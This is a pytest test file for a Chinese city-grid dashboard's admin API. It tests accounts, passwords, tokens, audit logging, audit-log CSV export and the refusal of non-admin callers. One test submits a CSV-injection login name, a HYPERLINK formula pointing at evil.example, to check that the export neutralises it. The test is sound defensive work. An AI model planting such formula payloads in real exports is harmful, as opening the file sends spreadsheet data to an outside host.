"""Admin API and service: accounts, passwords, tokens, audit query and CSV export; non-admins refused.

Every change must leave its audit row in the same transaction, and no password or plain token may ever reach
an audit row.
"""

from __future__ import annotations

import csv
import io
import json
import re
import uuid
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest
from sqlalchemy import select

from dashboard.services import admin as svc
from dashboard.services.accounts import user_for_token
from dashboard.services.errors import FieldError
from dashboard.store.models import AuditEntry, User
from layouts import admin as ui
from tests.integration.conftest import make_token

API = "/api/v1/admin"
STREET = "110112001"  # street 01 of the small test jurisdiction
OTHER_STREET = "110112002"


def _uid(prefix: str = "u") -> str:
    return f"{prefix}-{uuid.uuid4().hex[:8]}"


def _admin_name(grid_app: Any, token: str) -> str:
    with grid_app.runtime.session() as session:
        user = user_for_token(session=session, token=token)
        assert user is not None
        return user.name


def _audit_rows(grid_app: Any, **where: str) -> list[AuditEntry]:
    with grid_app.runtime.session() as session:
        query = select(AuditEntry).order_by(AuditEntry.id)
        for name, value in where.items():
            query = query.where(getattr(AuditEntry, name) == value)
        rows = list(session.scalars(query))
        session.expunge_all()
        return rows


def _all_audit_text(grid_app: Any) -> str:
    rows = _audit_rows(grid_app)
    return "\n".join(f"{r.actor} {r.action} {r.target} {json.dumps(r.detail, ensure_ascii=False)}" for r in rows)


def login(client: Any, name: str, password: str) -> Any:
    """Sign in through the real form (GET for the CSRF token, then POST)."""
    page = client.get("/login").get_data(as_text=True)
    token = re.search(r'name="csrf" value="([^"]+)"', page)
    assert token, "login form carries a CSRF token"
    return client.post("/login", data={"csrf": token.group(1), "name": name, "password": password})


def _create(client: Any, **body: Any) -> Any:
    body = {"name": _uid(), "role": "dispatcher", "scope": STREET, "password": "first-pass-1", **body}
    return client.post(f"{API}/users", json=body)


# ---- accounts -----------------------------------------------------------------------------------------------


def test_create_user_round_trip_is_listed_can_sign_in_and_is_audited(client, grid_app, admin_token: str) -> None:  # noqa: ANN001
    name = _uid("zhang")
    resp = _create(client, name=name, display_name="张三", role="dispatcher", scope=STREET, password="s3cret-pass")
    assert resp.status_code == 201, resp.get_json()
    created = resp.get_json()
    assert created | {"id": 0, "created_at": ""} == {
        "id": 0,
        "name": name,
        "display_name": "张三",
        "role": "dispatcher",
        "scope": STREET,
        "scope_name": "第01街道",
        "department": None,
        "department_name": None,
        "active": True,
        "has_password": True,
        "created_at": "",
        "active_tokens": 0,
        "tokens": [],
    }
    listed = client.get(f"{API}/users").get_json()["users"]
    assert [u["name"] for u in listed].count(name) == 1

    # The new account signs in through the login form and lands on its desk.
    desk = grid_app.server.test_client()
    answer = login(desk, name, "s3cret-pass")
    assert answer.status_code == 302 and answer.headers["Location"] == "/dispatch/"

    admin_name = _admin_name(grid_app, admin_token)
    (row,) = _audit_rows(grid_app, action="admin:create_user", target=f"user:{name}")
    assert row.actor == admin_name
    assert row.detail == {"role": "dispatcher", "scope": STREET, "department": None, "password_set": True}
    assert row.ip == "127.0.0.1"
    assert "s3cret-pass" not in _all_audit_text(grid_app)


def test_handler_needs_a_department_and_gets_it(client) -> None:  # noqa: ANN001
    resp = _create(client, role="handler", scope="110112", department="CGW")
    assert resp.status_code == 201, resp.get_json()
    assert resp.get_json()["department"] == "CGW"
    assert resp.get_json()["department_name"] == "区城市管理委员会"


@pytest.mark.parametrize(
    ("body", "field"),
    [
        ({"role": "superuser"}, "role"),
        ({"role": None}, "role"),
        ({"name": "x"}, "name"),
        ({"name": "bad name!"}, "name"),
        ({"scope": "110112999"}, "scope"),  # right shape, no such street
        ({"scope": "310101"}, "scope"),  # another county
        ({"role": "handler"}, "department"),
        ({"role": "dispatcher", "department": "CGW"}, "department"),  # only handlers act for a department
        ({"role": "handler", "department": "NOPE"}, "department"),
        ({"password": "short"}, "password"),
        ({"password": 12345678}, "password"),
        ({"display_name": "名" * 65}, "display_name"),
    ],
)
def test_create_user_refusals_name_the_field_and_leave_no_trace(client, grid_app, body: dict, field: str) -> None:  # noqa: ANN001
    name = body.get("name") if "name" in body else _uid("bad")
    before = len(_audit_rows(grid_app, action="admin:create_user"))
    resp = _create(client, **{**body, "name": name})
    assert resp.status_code == 422, resp.get_json()
    assert resp.get_json()["field"] == field
    assert len(_audit_rows(grid_app, action="admin:create_user")) == before
    with grid_app.runtime.session() as session:
        assert session.scalar(select(User).where(User.name == str(name))) is None or field == "name"


def test_duplicate_name_and_malformed_bodies(client) -> None:  # noqa: ANN001
    name = _uid()
    assert _create(client, name=name).status_code == 201
    dup = _create(client, name=name)
    assert dup.status_code == 422 and dup.get_json()["field"] == "name"
    raw = client.post(f"{API}/users", data="not json", content_type="application/json")
    assert raw.status_code == 422 and raw.get_json()["field"] == "body"
    assert client.post(f"{API}/users", json=["a", "list"]).get_json()["field"] == "body"
    assert client.get(f"{API}/users/999999999").status_code == 404
    assert client.post(f"{API}/users/999999999/password", json={"password": "long-enough-1"}).status_code == 404
    assert client.post(f"{API}/tokens/999999999/revoke").status_code == 404


def test_password_reset_old_fails_new_works_never_recorded(client, grid_app) -> None:  # noqa: ANN001
    name = _uid("li")
    user_id = _create(client, name=name, password="old-password-1").get_json()["id"]
    short = client.post(f"{API}/users/{user_id}/password", json={"password": "short"})
    assert short.status_code == 422 and short.get_json()["field"] == "password"
    missing = client.post(f"{API}/users/{user_id}/password", json={})
    assert missing.status_code == 422 and missing.get_json()["field"] == "password"

    resp = client.post(f"{API}/users/{user_id}/password", json={"password": "new-password-2"})
    assert resp.status_code == 200, resp.get_json()
    assert login(grid_app.server.test_client(), name, "old-password-1").status_code == 401
    assert login(grid_app.server.test_client(), name, "new-password-2").status_code == 302

    (row,) = _audit_rows(grid_app, action="admin:reset_password", target=f"user:{name}")
    assert row.detail == {}
    text = _all_audit_text(grid_app)
    assert "new-password-2" not in text and "old-password-1" not in text


def test_token_issue_use_revoke(client, grid_app, anonymous) -> None:  # noqa: ANN001
    name = _uid("api")
    user_id = _create(client, name=name, role="dispatcher", scope=STREET).get_json()["id"]
    resp = client.post(f"{API}/users/{user_id}/tokens", json={"label": "区网格化系统对接"})
    assert resp.status_code == 201, resp.get_json()
    issued = resp.get_json()
    assert resp.headers["Cache-Control"] == "no-store"
    assert issued["token"].startswith("gct_") and issued["user"] == name and issued["kiosk_path"] is None
    bearer = {"Authorization": f"Bearer {issued['token']}"}
    assert anonymous.get("/api/v1/cases", headers=bearer).status_code == 200

    tokens = client.get(f"{API}/users/{user_id}").get_json()["tokens"]
    assert [(t["id"], t["label"], t["revoked_at"]) for t in tokens] == [(issued["id"], "区网格化系统对接", None)]
    assert tokens[0]["last_used_at"] is not None  # the call above used it

    assert client.post(f"{API}/tokens/{issued['id']}/revoke").status_code == 200
    assert anonymous.get("/api/v1/cases", headers=bearer).status_code == 401
    assert client.get(f"{API}/users/{user_id}").get_json()["active_tokens"] == 0
    # Revoking twice is harmless and writes one audit row.
    assert client.post(f"{API}/tokens/{issued['id']}/revoke").status_code == 200

    issued_rows = _audit_rows(grid_app, action="admin:issue_token", target=f"token:{issued['id']}")
    revoked_rows = _audit_rows(grid_app, action="admin:revoke_token", target=f"token:{issued['id']}")
    assert [r.detail for r in issued_rows] == [{"user": name, "label": "区网格化系统对接"}]
    assert [r.detail for r in revoked_rows] == [{"user": name, "label": "区网格化系统对接"}]
    assert issued["token"] not in _all_audit_text(grid_app)
    assert issued["token"].removeprefix("gct_") not in _all_audit_text(grid_app)


def test_screen_token_comes_with_its_kiosk_address(client, anonymous) -> None:  # noqa: ANN001
    user_id = _create(client, role="screen", scope="110112", password=None).get_json()["id"]
    issued = client.post(f"{API}/users/{user_id}/tokens", json={"label": "大厅主屏"}).get_json()
    assert issued["kiosk_path"] == f"/screen/?token={issued['token']}"
    opened = anonymous.get(issued["kiosk_path"])
    assert opened.status_code == 302 and opened.headers["Location"] == "/screen/"
    assert anonymous.get("/screen/").status_code == 200
    # Revoking the display token signs the wall out at its next request.
    client.post(f"{API}/tokens/{issued['id']}/revoke")
    assert anonymous.get("/screen/").status_code == 302


def test_deactivate_ends_sessions_and_tokens_and_activate_restores(client, grid_app, admin_token: str) -> None:  # noqa: ANN001
    name = _uid("wang")
    user_id = _create(client, name=name, role="leader", scope=STREET, password="leader-pass-1").get_json()["id"]
    token = client.post(f"{API}/users/{user_id}/tokens").get_json()["token"]
    desk = grid_app.server.test_client()
    assert login(desk, name, "leader-pass-1").status_code == 302
    assert desk.get("/api/v1/cases").status_code == 200
    bearer = {"Authorization": f"Bearer {token}"}

    resp = client.post(f"{API}/users/{user_id}/deactivate")
    assert resp.status_code == 200 and resp.get_json()["active"] is False
    assert desk.get("/api/v1/cases").status_code == 401  # the session is gone at the next request
    assert grid_app.server.test_client().get("/api/v1/cases", headers=bearer).status_code == 401
    assert login(grid_app.server.test_client(), name, "leader-pass-1").status_code == 401
    # A deactivated account gets no new tokens.
    refused = client.post(f"{API}/users/{user_id}/tokens")
    assert refused.status_code == 422 and refused.get_json()["field"] == "user"

    assert client.post(f"{API}/users/{user_id}/activate").get_json()["active"] is True
    assert grid_app.server.test_client().get("/api/v1/cases", headers=bearer).status_code == 200
    actions = [r.action for r in _audit_rows(grid_app, target=f"user:{name}")]
    assert actions == ["admin:create_user", "admin:deactivate", "admin:activate"]

    admin_id = client.get(f"{API}/users").get_json()["users"]
    me = next(u for u in admin_id if u["name"] == _admin_name(grid_app, admin_token))
    own = client.post(f"{API}/users/{me['id']}/deactivate")
    assert own.status_code == 422 and own.get_json()["field"] == "active"


def test_an_admin_action_and_its_audit_row_commit_or_vanish_together(grid_app) -> None:  # noqa: ANN001
    name = _uid("rollback")
    session = grid_app.runtime.sessions()
    try:
        svc.create_account(
            session=session,
            by=svc.Who("someone", "10.0.0.1"),
            county_code="110112",
            name=name,
            role="dispatcher",
            scope=STREET,
            password="whatever-1",
        )
        session.flush()
        pending = session.scalars(select(AuditEntry).where(AuditEntry.target == f"user:{name}")).all()
        assert len(pending) == 1  # written in the caller's transaction…
        session.rollback()  # …so it goes when the change goes
    finally:
        session.close()
    assert _audit_rows(grid_app, target=f"user:{name}") == []
    with grid_app.runtime.session() as check:
        assert check.scalar(select(User).where(User.name == name)) is None


# ---- audit query and CSV ------------------------------------------------------------------------------------


@pytest.fixture
def seeded_audit(grid_app) -> dict[str, Any]:  # noqa: ANN001
    """Audit rows of one made-up actor at known local times (2026-03-01 … 03-03, Asia/Shanghai)."""
    actor = _uid("auditee")
    base = datetime(2026, 3, 1, 1, 0, tzinfo=UTC)  # 09:00 local
    rows = [
        (base, "login", ""),
        (base + timedelta(hours=1), "login_failed", ""),
        (base + timedelta(days=1), "case:dispatch", "C20260302-0001"),
        (base + timedelta(days=1, hours=2), "case:file", "C20260302-0002"),
        (base + timedelta(days=2), "token_used", "token:7"),
    ]
    with grid_app.runtime.session() as session:
        for at, action, target in rows:
            session.add(AuditEntry(at=at, actor=actor, action=action, target=target, ip="10.1.2.3", detail={"n": 1}))
    return {"actor": actor}


@pytest.mark.parametrize(
    ("query", "expected"),
    [
        ({}, ["token_used", "case:file", "case:dispatch", "login_failed", "login"]),
        ({"action": "login"}, ["login_failed", "login"]),  # a prefix
        ({"action": "case:"}, ["case:file", "case:dispatch"]),
        ({"target": "0002"}, ["case:file"]),  # a substring
        ({"from": "2026-03-02"}, ["token_used", "case:file", "case:dispatch"]),
        ({"to": "2026-03-01"}, ["login_failed", "login"]),  # a `to` date includes that whole local day
        ({"from": "2026-03-02", "to": "2026-03-02"}, ["case:file", "case:dispatch"]),
        ({"from": "2026-03-02T11:00", "to": "2026-03-02T12:00:00+08:00"}, ["case:file"]),  # local, then offset
        ({"from": "2026-03-02T09:00", "to": "2026-03-02T11:00"}, ["case:dispatch"]),  # a `to` time is exclusive
        ({"action": "login%"}, []),  # LIKE wildcards are literal
        ({"action": "_ogin"}, []),
    ],
)
def test_audit_filters(client, seeded_audit: dict[str, Any], query: dict[str, str], expected: list[str]) -> None:  # noqa: ANN001
    resp = client.get(f"{API}/audit", query_string={"actor": seeded_audit["actor"], **query})
    assert resp.status_code == 200, resp.get_json()
    assert [r["action"] for r in resp.get_json()["rows"]] == expected


def test_audit_rows_paging_and_local_times(client, seeded_audit: dict[str, Any]) -> None:  # noqa: ANN001
    first = client.get(f"{API}/audit", query_string={"actor": seeded_audit["actor"], "size": 2}).get_json()
    assert (first["total"], first["pages"], first["page"]) == (5, 3, 1)
    assert first["rows"][0] | {"id": 0} == {
        "id": 0,
        "at": "2026-03-03T09:00:00+08:00",
        "actor": seeded_audit["actor"],
        "action": "token_used",
        "target": "token:7",
        "ip": "10.1.2.3",
        "detail": {"n": 1},
    }
    last = client.get(f"{API}/audit", query_string={"actor": seeded_audit["actor"], "size": 2, "page": 3}).get_json()
    assert [r["action"] for r in last["rows"]] == ["login"]


@pytest.mark.parametrize(
    ("query", "field"),
    [
        ({"from": "yesterday"}, "from"),
        ({"to": "2026-13-01"}, "to"),
        ({"from": "2026-03-02", "to": "2026-03-01"}, "to"),
        ({"actor": "x" * 65}, "actor"),
        ({"target": "a\x00b"}, "target"),
        ({"page": "0"}, "page"),
        ({"size": "501"}, "size"),
        ({"size": "ten"}, "size"),
    ],
)
def test_audit_bad_arguments_name_the_field(client, query: dict[str, str], field: str) -> None:  # noqa: ANN001
    resp = client.get(f"{API}/audit", query_string=query)
    assert resp.status_code == 422 and resp.get_json()["field"] == field
    if field not in ("page", "size"):
        assert client.get(f"{API}/audit.csv", query_string=query).status_code == 422


def test_audit_csv_opens_in_excel_and_cannot_carry_formulas(client, grid_app, anonymous, admin_token: str) -> None:  # noqa: ANN001
    # Anyone can type a login name, and failed logins are audited under that name: a classic CSV injection.
    evil = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'
    login(anonymous, evil, "wrong-password")
    resp = client.get(f"{API}/audit.csv", query_string={"action": "login_failed", "actor": evil})
    assert resp.status_code == 200
    assert resp.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert resp.headers["Content-Disposition"].startswith("attachment; filename=gridcmd-audit-")
    assert resp.headers["Cache-Control"] == "no-store"
    raw = resp.get_data()
    assert raw.startswith(b"\xef\xbb\xbf")  # UTF-8 BOM: Excel reads the file as UTF-8, not GBK
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
    assert rows[0] == ["序号", "时间", "操作人", "操作", "对象", "IP 地址", "详情"]
    assert len(rows) == 2, rows
    assert rows[1][2] == "'" + evil  # shown as text, never evaluated
    assert rows[1][3] == "login_failed"
    assert json.loads(rows[1][6]) == {"locked": False}
    assert raw.count(b"\r\n") == 2  # CRLF rows, as Excel writes them

    exports = _audit_rows(grid_app, action="admin:audit_export", actor=_admin_name(grid_app, admin_token))
    assert exports[-1].detail == {"action": "login_failed", "actor": evil}


def test_audit_csv_carries_chinese_and_every_matching_row(client, seeded_audit: dict[str, Any]) -> None:  # noqa: ANN001
    resp = client.get(f"{API}/audit.csv", query_string={"actor": seeded_audit["actor"], "action": "case:"})
    rows = list(csv.reader(io.StringIO(resp.get_data().decode("utf-8-sig"))))
    assert [r[3] for r in rows[1:]] == ["case:file", "case:dispatch"]
    assert rows[1][1] == "2026-03-02T11:00:00+08:00"


def test_csv_cell_neutralises_every_formula_start() -> None:
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert svc.csv_cell(start + "1+1").startswith("'")
    assert svc.csv_cell("张三") == "张三"
    assert svc.csv_cell({"b": 1, "a": "中"}) == '{"a": "中", "b": 1}'
    lines = list(svc.audit_csv_lines([], ("a", "b")))
    assert lines == ["\ufeffa,b\r\n"]


# ---- who may use it -----------------------------------------------------------------------------------------

ADMIN_ENDPOINTS = [
    ("GET", f"{API}/users"),
    ("POST", f"{API}/users"),
    ("GET", f"{API}/users/1"),
    ("POST", f"{API}/users/1/password"),
    ("POST", f"{API}/users/1/deactivate"),
    ("POST", f"{API}/users/1/activate"),
    ("POST", f"{API}/users/1/tokens"),
    ("POST", f"{API}/tokens/1/revoke"),
    ("GET", f"{API}/scopes"),
    ("GET", f"{API}/audit"),
    ("GET", f"{API}/audit.csv"),
]


@pytest.mark.parametrize(("method", "path"), ADMIN_ENDPOINTS)
def test_non_admins_are_refused_before_anything_happens(grid_app, anonymous, method: str, path: str) -> None:  # noqa: ANN001
    body = {"name": _uid(), "role": "admin", "scope": "110112", "password": "take-over-1"}
    assert anonymous.open(path, method=method, json=body).status_code == 401
    for role, scope, dept in [
        ("screen", "110112", None),
        ("dispatcher", "110112", None),
        ("leader", "110112", None),
        ("handler", "110112", "CGW"),
        ("dispatcher", STREET, None),
    ]:
        token = make_token(grid_app, role, scope, dept)
        resp = anonymous.open(path, method=method, json=body, headers={"Authorization": f"Bearer {token}"})
        assert resp.status_code == 403, (role, scope, resp.status_code)
    with grid_app.runtime.session() as session:
        assert session.scalar(select(User).where(User.name == body["name"])) is None


# ---- the Dash callbacks, through /admin/_dash-update-component ------------------------------------------------


def _dash_call(client: Any, trigger: str, values: dict[str, Any]) -> dict[str, Any]:
    """Fire the admin callback whose inputs include `trigger` (an "id.prop"), with input/state `values`."""
    deps = client.get("/admin/_dash-dependencies").get_json()
    trigger_id, trigger_prop = trigger.split(".")
    spec = next(d for d in deps if any(i["id"] == trigger_id and i["property"] == trigger_prop for i in d["inputs"]))
    outputs = []
    for part in spec["output"].strip(".").split("..."):
        out_id, prop = part.rsplit(".", 1)
        outputs.append({"id": out_id, "property": prop})

    def items(kind: str) -> list[dict[str, Any]]:
        return [
            {"id": i["id"], "property": i["property"], "value": values.get(f"{i['id']}.{i['property']}")}
            for i in spec[kind]
        ]

    payload = {
        "output": spec["output"],
        "outputs": outputs if len(outputs) > 1 else outputs[0],
        "inputs": items("inputs"),
        "state": items("state"),
        "changedPropIds": [trigger],
    }
    resp = client.post("/admin/_dash-update-component", json=payload)
    assert resp.status_code == 200, resp.get_data(as_text=True)[:500]
    return resp.get_json()["response"]


def test_admin_page_callbacks_create_a_user_and_query_the_log(client, grid_app, admin_token: str) -> None:  # noqa: ANN001
    assert client.get("/admin/").status_code == 200
    layout = json.dumps(client.get("/admin/_dash-layout").get_json(), ensure_ascii=False)
    assert "用户与令牌" in layout and "审计日志" in layout and "第01街道" in layout

    name = _uid("cb")
    out = _dash_call(
        client,
        f"{ui.CREATE_SUBMIT}.n_clicks",
        {
            f"{ui.CREATE_SUBMIT}.n_clicks": 1,
            f"{ui.CREATE_NAME}.value": name,
            f"{ui.CREATE_DISPLAY}.value": "赵六",
            f"{ui.CREATE_ROLE}.value": "leader",
            f"{ui.CREATE_SCOPE}.value": OTHER_STREET,
            f"{ui.CREATE_PASSWORD}.value": "leader-pass-9",
            f"{ui.USERS_VERSION}.data": 3,
        },
    )
    assert name in json.dumps(out[ui.CREATE_MSG]["children"], ensure_ascii=False)
    assert out[ui.USERS_VERSION]["data"] == 4
    (row,) = _audit_rows(grid_app, action="admin:create_user", target=f"user:{name}")
    assert row.actor == _admin_name(grid_app, admin_token)
    assert row.detail["scope"] == OTHER_STREET

    refused = _dash_call(
        client,
        f"{ui.CREATE_SUBMIT}.n_clicks",
        {
            f"{ui.CREATE_SUBMIT}.n_clicks": 2,
            f"{ui.CREATE_NAME}.value": name,
            f"{ui.CREATE_ROLE}.value": "leader",
            f"{ui.CREATE_SCOPE}.value": STREET,
        },
    )
    assert "用户名" in json.dumps(refused[ui.CREATE_MSG]["children"], ensure_ascii=False)  # already taken

    audit = _dash_call(
        client,
        f"{ui.AUDIT_SEARCH}.n_clicks",
        {
            f"{ui.URL}.pathname": "/admin/audit",
            f"{ui.AUDIT_SEARCH}.n_clicks": 1,
            f"{ui.AUDIT_TARGET}.value": f"user:{name}",
            f"{ui.AUDIT_PAGE}.data": {"page": 1, "pages": 1},
        },
    )
    table = json.dumps(audit[ui.AUDIT_TABLE]["children"], ensure_ascii=False)
    assert "新建账号" in table and f"user:{name}" in table
    assert audit[ui.AUDIT_EXPORT]["href"] == f"/api/v1/admin/audit.csv?target=user%3A{name}&system=0"


# ---- pure helpers -------------------------------------------------------------------------------------------


def test_tabs_pages_and_labels() -> None:
    assert ui.tab_for("/admin/audit") == "audit" and ui.tab_for("/admin/audit/") == "audit"
    assert ui.tab_for("/admin/") == "users" and ui.tab_for(None) == "users"
    assert ui.next_page(ui.AUDIT_NEXT, 1, 3) == 2 and ui.next_page(ui.AUDIT_NEXT, 3, 3) == 3
    assert ui.next_page(ui.AUDIT_PREV, 1, 3) == 1 and ui.next_page(ui.AUDIT_SEARCH, 3, 3) == 1
    assert ui.action_label("login_failed") == "登录失败"
    assert ui.action_label("case:dispatch") == "派遣"  # the desk's name of the command
    assert ui.action_label("case:not-yet-named") == "案件操作 · not-yet-named"
    assert ui.action_label("something_new") == "something_new"
    assert ui.role_label("handler") == "处置部门"
    assert ui.audit_args("2026-03-01", None, " zhang ", "", None, ["show"]) == {"from": "2026-03-01", "actor": "zhang"}
    assert ui.audit_args(None, None, None, None, None) == {"system": "0"}  # machines hidden unless asked
    assert ui.csv_href({}) == "/api/v1/admin/audit.csv"
    assert ui.error_text(FieldError("scope", "no such street")) == "操作失败：管辖范围 — 输入不符合要求"
